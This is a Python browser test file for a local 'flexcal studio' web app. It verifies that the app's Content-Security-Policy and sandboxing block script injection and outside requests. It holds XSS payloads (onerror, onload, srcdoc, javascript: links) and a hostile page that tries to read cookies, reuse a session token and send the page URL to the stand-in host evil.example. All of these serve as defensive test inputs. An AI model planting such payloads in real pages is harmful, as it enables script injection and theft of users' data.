"""The window in a real browser."""

from __future__ import annotations

import time
from typing import Any
from urllib.parse import urlsplit

from page_elements import WAIT
from waiting import PATIENCE


def test_window_opens_and_talks_to_this_server_alone(page: Any, studio_url: str) -> None:
    """The page is drawn under its Content-Security-Policy: no error, no violation, no request to anywhere else."""
    requests, errors, sockets = [], [], []
    page.on("request", lambda request: requests.append(request.url))
    page.on("websocket", lambda socket: sockets.append(socket.url))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    response = page.goto(studio_url)
    assert response.status == 200 and "default-src 'none'" in response.headers["content-security-policy"]
    page.get_by_text("flexcal studio").first.wait_for(timeout=WAIT)
    page.locator("canvas").first.wait_for(timeout=WAIT)
    page.wait_for_function(
        "[...document.querySelectorAll('canvas')].some(c => c.width > 300 && c.getContext('webgl2'))",
        timeout=WAIT,
    )
    page.wait_for_timeout(1000)
    assert errors == []
    place = urlsplit(studio_url).netloc
    foreign = [url for url in [*requests, *sockets] if urlsplit(url).scheme in ("http", "https", "ws", "wss")]
    assert foreign and {urlsplit(url).netloc for url in foreign} == {place} and len(sockets) >= 1


MARKUP = """<img src=x onerror="document.title='run'"><svg onload="document.title='run'"></svg>
<iframe srcdoc="<script>parent.document.title='run'</script>"></iframe>
<a id=link href="javascript:document.title='run'">link</a>"""


def test_markup_that_got_into_the_page_runs_nothing(page: Any, tmp_path: Any) -> None:
    """Names from files are escaped; where one were forgotten, the policy would still keep its scripts from running."""
    from flexcal.studio.server import ProjectFiles, StudioServer

    server = StudioServer.start("127.0.0.1", 0, {}, ProjectFiles(tmp_path))
    try:
        server.viser.gui.add_html(MARKUP)
        refused: list[str] = []
        page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
        page.goto(server.url)
        link = page.locator("#link")
        link.wait_for(timeout=WAIT)
        deadline = time.monotonic() + PATIENCE
        while (count := sum("Content Security Policy" in text for text in refused)) < 4:
            assert time.monotonic() < deadline, refused
            if count == 3:  # again where the page drew the link anew under the first click
                link.click(timeout=WAIT)
            page.wait_for_timeout(100)
        assert "run" not in page.title()
    finally:
        server.stop()


HOSTILE = """<!doctype html><title>report</title><script>
const results = {};
const attempt = async (name, action) => {
  try { results[name] = await action() ?? "done"; } catch (problem) { results[name] = "refused"; }
};
const socket = url => new Promise((done, failed) => {
  const socket = new WebSocket(url); socket.onopen = () => done("done"); socket.onerror = failed;
});
(async () => {
  const place = location.host;
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("opener", () => window.opener.location.href);
  await attempt("read", () => fetch(location.href));
  await attempt("send", () => fetch("http://evil.example/" + location.href, { mode: "no-cors" }));
  await attempt("socket", () => socket("ws://" + place + location.pathname.split("/files/")[0]));
  await attempt("token", () => socket("ws://" + place + "/TOKEN"));
  await attempt("image", () => new Promise((done, failed) => {
    const image = new Image(); image.onload = done; image.onerror = failed; image.src = "http://" + place + "/TOKEN/";
  }));
  window.results = results;
})();
</script><p>results</p>"""


def test_a_hostile_page_of_the_folder_reaches_nothing(page: Any, studio_url: str, tmp_path: Any) -> None:
    """Its scripts run, in an origin of their own: not even with the studio's token do they get in."""
    token = urlsplit(studio_url).path.strip("/")
    (tmp_path / "project" / "report.html").write_text(HOSTILE.replace("TOKEN", token))
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(studio_url)
    page.evaluate("window.open('files/report.html', '_self')")
    page.wait_for_function("window.results && Object.keys(window.results).length == 8")
    assert set(page.evaluate("Object.values(window.results)")) == {"refused"}
    assert page.evaluate("window.origin") == "null"
    assert token not in page.url and page.url.endswith("/files/report.html")
    assert not [url for url in requests if "evil" in url]


def test_a_pick_leaves_the_page_where_it_is(page: Any, studio_url: str) -> None:
    page.goto(studio_url)
    page.locator("canvas").last.wait_for(timeout=WAIT)
    page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<a id=a href=pick/12 style=\"position:fixed;z-index:9999\">12</a>')"
    )
    with page.expect_response(lambda response: "/pick/12" in response.url) as picked:
        page.focus("#a")
        page.keyboard.press("Enter")
    assert picked.value.status == 204
    page.wait_for_timeout(300)
    assert page.locator("#a").count() == 1
